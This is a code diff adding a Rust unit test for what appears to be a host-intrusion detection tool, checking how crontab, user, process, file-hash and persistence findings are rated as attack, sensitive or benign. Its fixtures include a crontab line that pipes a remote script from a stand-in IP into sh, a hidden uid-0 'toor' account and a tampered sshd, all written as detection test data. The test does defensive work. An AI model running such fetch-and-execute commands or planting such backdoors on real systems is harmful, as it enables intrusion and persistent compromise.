@@ -834,6 +834,104 @@ mod tests {
     }
 
     #[test]
+    fn relevance_says_what_prevalence_and_cohorts_may_do() {
+        let rel = |kind: QueryKind, pairs: &[(&str, &str)], f: FindingKind| assess(kind, &row(pairs), f).relevance;
+        use Relevance::*;
+        // Patterns of attack.
+        assert_eq!(
+            rel(QueryKind::Crontab, &[("command", "curl -fsSL http://198.51.100.7/x.sh | sh")], FindingKind::Rare),
+            Attack
+        );
+        assert_eq!(rel(QueryKind::Users, &[("username", "toor"), ("uid", "0")], FindingKind::Rare), Attack);
+        assert_eq!(
+            rel(QueryKind::Processes, &[("path", "/tmp/.x/agent"), ("name", "agent")], FindingKind::Rare),
+            Attack
+        );
+        let tampered = [("path", "/usr/sbin/sshd"), ("package_check", "mismatch")];
+        assert_eq!(rel(QueryKind::FileHashes, &tampered, FindingKind::Rare), Attack, "at any kind of finding");
+        // Sensitive: a deploy may, an attacker wants.
+        assert_eq!(rel(QueryKind::AuthorizedKeys, &[("uid", "0"), ("username", "root")], FindingKind::Rare), Sensitive);
+        assert_eq!(
+            rel(QueryKind::AuthorizedKeys, &[("uid", "1000"), ("username", "ec2-user")], FindingKind::Rare),
+            Sensitive
+        );
+        assert_eq!(rel(QueryKind::KernelModules, &[("name", "crc_tune")], FindingKind::Rare), Sensitive);
+        assert_eq!(
+            rel(
+                QueryKind::Users,
+                &[("username", "deploy2"), ("uid", "1002"), ("shell", "/bin/bash")],
+                FindingKind::Rare
+            ),
+            Sensitive
+        );
+        assert_eq!(
+            rel(
+                QueryKind::ListeningPorts,
+                &[("name", "php"), ("path", "/usr/bin/php8.2"), ("port", "8888")],
+                FindingKind::Rare
+            ),
+            Sensitive
+        );
+        assert_eq!(rel(QueryKind::FileHashes, &[("path", "/usr/sbin/sshd")], FindingKind::Changed), Sensitive);
+        assert_eq!(
+            rel(
+                QueryKind::Persistence,
+                &[("path", "/etc/sudoers.d/90-ops"), ("content", "ops ALL=(ALL) ALL")],
+                FindingKind::Rare
+            ),
+            Sensitive
+        );
+        assert_eq!(
+            rel(
+                QueryKind::Persistence,
+                &[("path", "/etc/pam.d/sshd"), ("content", "auth required pam_unix.so")],
+                FindingKind::Rare
+            ),
+            Sensitive
+        );
+        // Nothing a deploy does not do.
+        assert_eq!(rel(QueryKind::KernelModules, &[("name", "ixgbevf")], FindingKind::Rare), None, "a NIC driver");
+        assert_eq!(rel(QueryKind::KernelModules, &[("name", "xt_conntrack")], FindingKind::Rare), None);
+        assert_eq!(
+            rel(QueryKind::ListeningPorts, &[("name", "envoy"), ("path", "/usr/local/bin/envoy")], FindingKind::Rare),
+            None
+        );
+        assert_eq!(
+            rel(
+                QueryKind::Users,
+                &[("username", "envoy"), ("uid", "992"), ("shell", "/usr/sbin/nologin")],
+                FindingKind::Rare
+            ),
+            None
+        );
+        let upgraded = [("path", "/usr/bin/curl"), ("package_check", "ok")];
+        assert_eq!(rel(QueryKind::FileHashes, &upgraded, FindingKind::Changed), None, "another version of its package");
+        assert_eq!(
+            rel(
+                QueryKind::Persistence,
+                &[("path", "/etc/systemd/system/envoy.service"), ("content", "ExecStart=/usr/local/bin/envoy")],
+                FindingKind::Rare
+            ),
+            None
+        );
+        assert_eq!(
+            rel(QueryKind::Processes, &[("path", "/usr/sbin/nginx (deleted)"), ("name", "nginx")], FindingKind::Rare),
+            None,
+            "an upgrade not yet restarted"
+        );
+        assert_eq!(
+            rel(
+                QueryKind::TempFiles,
+                &[("path", "/tmp/jna-1/jna2.tmp"), ("kind", "file"), ("mode", "755")],
+                FindingKind::Rare
+            ),
+            None
+        );
+        assert!(disowned(QueryKind::FileHashes, &row(&tampered)));
+        assert!(!disowned(QueryKind::FileHashes, &row(&upgraded)));
+    }
+
+    #[test]
     fn missing_agents() {
         let a =
             assess(QueryKind::Processes, &row(&[("name", "auditd"), ("path", "/sbin/auditd")]), FindingKind::Missing);
